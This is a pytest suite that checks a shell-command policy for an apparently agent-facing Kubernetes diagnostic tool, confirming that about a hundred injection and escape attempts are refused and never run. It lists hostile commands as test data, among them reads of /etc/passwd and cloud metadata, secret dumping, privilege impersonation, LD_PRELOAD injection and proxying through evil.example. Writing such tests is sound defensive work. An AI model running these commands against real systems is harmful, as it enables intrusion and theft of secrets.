"""Injection and escape attempts: every one is refused with the expected reason and none runs.

Each attempt tries to create a marker file in the working directory (or names one by absolute
path). All attempts go through policy + executor; afterwards no marker exists. A control case
shows that the marker check would catch a command that did run through a shell.
"""

from __future__ import annotations

import subprocess

import pytest

from actors.commands import shell_policy
from actors.commands.shell_executor_adapter import ShellExecutor
from unit_tests.commands.helpers import Collector, make_settings

SVC = "http://web.default.svc"

# (command template, expected refusal code); {m} is the marker file name, {abs} its full path.
ATTACKS: list[tuple[str, str]] = [
    ("echo hi; touch {m}", "shell_metacharacter"),
    ("echo hi && touch {m}", "shell_metacharacter"),
    ("echo hi || touch {m}", "shell_metacharacter"),
    ("echo hi | tee {m}", "shell_metacharacter"),
    ("echo hi & touch {m}", "shell_metacharacter"),
    ("echo `touch {m}`", "shell_metacharacter"),
    ("echo $(touch {m})", "shell_metacharacter"),
    ("echo ${{IFS}}touch{{IFS}}{m}", "shell_metacharacter"),
    ("echo hi > {m}", "shell_metacharacter"),
    ("echo hi >> {m}", "shell_metacharacter"),
    ("echo hi 2>{m}", "shell_metacharacter"),
    ("echo <(touch {m})", "shell_metacharacter"),
    ("echo 'quoted; touch {m}'", "shell_metacharacter"),
    ("echo hi\ntouch {m}", "newline"),
    ("echo hi\rtouch {m}", "newline"),
    ("echo hi\x00touch {m}", "control_character"),
    ("echo hi\ttouch {m}", "control_character"),
    ("echo hi\\;touch {m}", "backslash"),
    ("touch {m}", "unlisted_program"),
    ("sh -c 'touch {m}'", "unlisted_program"),
    ("bash -c 'touch {m}'", "unlisted_program"),
    ("env touch {m}", "unlisted_program"),
    ("python3 -c 'open(\"{m}\",\"w\")'", "shell_metacharacter"),
    ("xargs touch {m}", "unlisted_program"),
    ("/usr/bin/touch {m}", "program_path"),
    ("../../usr/bin/touch {m}", "program_path"),
    ("./touch {m}", "program_path"),
    ("FOO=bar touch {m}", "env_assignment"),
    ("LD_PRELOAD=evil.so echo {m}", "env_assignment"),
    ("KUBECONFIG=x kubectl get pods", "env_assignment"),
    ("echo ~/{m}", "path_trick"),
    ("echo ../{m}", "path_traversal"),
    ("echo {abs}", "absolute_path"),
    ("kubectl get pods --output-watch-events=/{m}", "absolute_path"),
    ("echo {m}*", "glob"),
    ("echo {{a,b}}{m}", "glob"),
    ("echo 'unterminated {m}", "unbalanced_quotes"),
    ("echo '' {m}", "empty_argument"),
    ("kubectl exec web touch {m}", "unlisted_subcommand"),
    ("kubectl exec web -- touch {m}", "end_of_options"),
    ("kubectl cp {m} web:tmp", "unlisted_subcommand"),
    ("kubectl port-forward svc/web 8080:80", "unlisted_subcommand"),
    ("kubectl proxy", "unlisted_subcommand"),
    ("kubectl edit deploy web", "unlisted_subcommand"),
    ("kubectl delete pod web", "unlisted_subcommand"),
    ("kubectl patch deploy web -p x", "unlisted_subcommand"),
    ("kubectl apply -f {m}", "denied_flag"),
    ("kubectl debug web --image=busybox", "unlisted_flag"),
    ("kubectl touch {m}", "unlisted_subcommand"),
    ("kubectl get pods --kubeconfig={m}", "denied_flag"),
    ("kubectl --kubeconfig {m} get pods", "denied_flag"),
    ("kubectl get pods --token=abc", "denied_flag"),
    ("kubectl get pods --as=system:admin", "denied_flag"),
    ("kubectl get pods -s https://evil.example", "denied_flag"),
    ("kubectl get pods -o go-template={{{{.}}}}", "output_format"),
    ("kubectl get pods -o go-template-file={m}", "output_format"),
    ("kubectl get pods --template={m}", "denied_flag"),
    ("kubectl get --raw /api/v1/secrets", "denied_flag"),
    ("kubectl get pods -v=9", "denied_flag"),
    ("kubectl get pods -w", "denied_flag"),
    ("kubectl get secret db -o jsonpath={{.data.password}}", "secret_output"),
    ("kubectl get secrets -o custom-columns=P:.data", "secret_output"),
    (f"curl -o {{m}} {SVC}/", "denied_flag"),
    (f"curl --output {{m}} {SVC}/", "denied_flag"),
    (f"curl -sO {SVC}/{{m}}", "denied_flag"),
    (f"curl -T {{m}} {SVC}/", "denied_flag"),
    (f"curl -d @{{m}} {SVC}/", "denied_flag"),
    (f"curl --data-binary x {SVC}/", "denied_flag"),
    (f"curl -X POST {SVC}/", "http_method"),
    (f"curl -XDELETE {SVC}/", "http_method"),
    (f"curl -K {{m}} {SVC}/", "denied_flag"),
    (f"curl -w @{{m}} {SVC}/", "file_read"),
    (f"curl -sL {SVC}/", "denied_flag"),
    (f"curl -x http://evil.example:3128 {SVC}/", "denied_flag"),
    ("curl file:///etc/passwd", "url_scheme"),
    ("curl file://localhost/etc/passwd", "url_scheme"),
    ("curl telnet://web.default.svc:23", "url_scheme"),
    ("curl gopher://web.default.svc/x", "url_scheme"),
    ("curl dict://web.default.svc/x", "url_scheme"),
    ("curl web.default.svc/", "url_scheme"),
    ("curl http://169.254.169.254/latest/meta-data/", "not_in_cluster"),
    ("curl http://example.com/", "not_in_cluster"),
    ("curl -k https://kubernetes.default.svc/api/v1/secrets", "not_in_cluster"),
    ("curl -w %output{{m}}x http://web.default.svc/", "glob"),
    ("curl http://web.default.svc@evil.example/", "url"),
    (f"curl {SVC}/%2e%2e/admin", "url"),
    (f"curl {SVC}/a/../admin", "path_traversal"),
    (f"curl {SVC}/[1-1000]", "glob"),
    (f"curl {SVC} {SVC}", "too_many_args"),
    ("dig -f {m}", "denied_flag"),
    ("dig @8.8.8.8 example.com", "not_in_cluster"),
    ("dig +trace example.com", "unlisted_flag"),
    ("nslookup", "dns_name"),
    ("nslookup kubernetes.default 8.8.8.8", "not_in_cluster"),
    ("hubble observe --server evil.example:4245", "unlisted_flag"),
    ("hubble observe --follow", "unlisted_flag"),
    ("cilium install", "unlisted_subcommand"),
    ("cilium status -o go-template={m}", "output_format"),
    ("\uff45cho hi", "non_ascii"),                # fullwidth e
    ("echo hi\uff1btouch {m}", "non_ascii"),      # fullwidth semicolon
    ("kub\u0435ctl get pods", "non_ascii"),       # Cyrillic ie
    ("echo hi\u2028touch {m}", "non_ascii"),      # line separator
    ("echo " + "A" * 5000, "too_long"),
    ("echo " + "a " * 100, "too_many_args"),
    ("echo " + "B" * 2000, "arg_too_long"),
    ("", "empty"),
    ("   ", "empty"),
]


def test_the_corpus_is_large_enough():
    assert len(ATTACKS) >= 50


@pytest.mark.parametrize(("template", "code"), ATTACKS, ids=range(len(ATTACKS)))
def test_policy_refuses_with_the_expected_reason(tmp_path, template, code):
    command = template.format(m="marker", abs=tmp_path / "marker")
    decision = shell_policy.evaluate(command, make_settings(tmp_path))
    assert not decision.allowed
    assert decision.argv == ()
    assert decision.code == code, decision.reason
    assert decision.reason


def test_no_attempt_runs_through_policy_and_executor(tmp_path):
    settings = make_settings(tmp_path)
    executor = ShellExecutor(settings, environ={})
    collector = Collector()
    executor.start()
    try:
        for index, (template, _) in enumerate(ATTACKS):
            command = template.format(m=f"m{index}", abs=tmp_path / f"m{index}")
            executor.submit(request_id=f"attack-{index}", command=command, on_done=collector)
        for index, command in enumerate(("echo live", "printf %s m0", "sleep 0")):
            executor.submit(request_id=f"control-{index}", command=command, on_done=collector)
        results = collector.wait(len(ATTACKS) + 3)
    finally:
        executor.close()
    attacks = [r for r in results if r.request_id.startswith("attack-")]
    controls = {r.request_id: r for r in results if r.request_id.startswith("control-")}
    assert len(attacks) == len(ATTACKS)
    assert {r.outcome for r in attacks} == {"refused"}
    assert {r.outcome for r in controls.values()} == {"completed"}   # the executor was live
    assert controls["control-1"].stdout == "m0"
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_the_marker_check_can_fail(tmp_path):
    """Control: the same attempt run through a real shell does leave a marker."""
    subprocess.run(["sh", "-c", "echo hi; touch m0"], cwd=tmp_path, check=True,
                   stdout=subprocess.DEVNULL)
    assert (tmp_path / "m0").exists()


ALLOWED = [
    "kubectl get pods -n kube-system -o wide",
    "kubectl -n kube-system get pods",
    "kubectl get pods -A -ojsonpath={.items[*].metadata.name}",
    "kubectl get pods -l 'app=web,tier!=db' --field-selector=status.phase=Running",
    "kubectl get secret db -o yaml",
    "kubectl describe secret db -n prod",
    "kubectl logs deploy/web -c app --tail=100 --timestamps",
    "kubectl top pods -A --containers",
    "kubectl auth can-i list pods --subresource=log",
    "kubectl api-resources --namespaced=true",
    "kubectl version --client",
    "kubectl explain pod.spec --recursive",
    "cilium status --brief",
    "hubble observe --last 20 -n default --verdict DROPPED -o json",
    "hubble status",
    "dig +short kubernetes.default.svc.cluster.local",
    "dig @kube-dns.kube-system.svc -t SRV _http._tcp.web.default.svc.cluster.local",
    "nslookup -type=A kubernetes.default",
    "curl -sI http://web.default.svc:8080/healthz",
    "curl -sS -X GET --max-time 5 https://api.prod.svc.cluster.local/v1/status",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_read_only_commands_are_allowed(tmp_path, command):
    decision = shell_policy.evaluate(command, make_settings(tmp_path))
    assert decision.allowed, decision.reason
    assert decision.argv[0] == command.split()[0]
